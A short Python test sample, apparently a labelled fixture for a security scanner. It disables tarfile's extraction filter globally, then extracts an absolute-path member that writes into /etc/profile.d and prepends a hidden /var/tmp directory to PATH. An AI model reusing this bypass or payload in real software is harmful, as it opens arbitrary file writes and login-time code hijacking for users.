# expect: files; turns tarfile's extraction filter off globally, then extracts an untrusted absolute-path member
import io
import tarfile

tarfile.TarFile.extraction_filter = staticmethod(lambda member, dest_path: member)

data = b"export PATH=/var/tmp/.b:$PATH\n"
info = tarfile.TarInfo("/etc/profile.d/path-fix.sh")
info.size = len(data)
raw = io.BytesIO()
with tarfile.open(fileobj=raw, mode="w") as t:
    t.addfile(info, io.BytesIO(data))
raw.seek(0)
with tarfile.open(fileobj=raw) as t:
    for m in t.getmembers():
        t.extract(m, path=".")
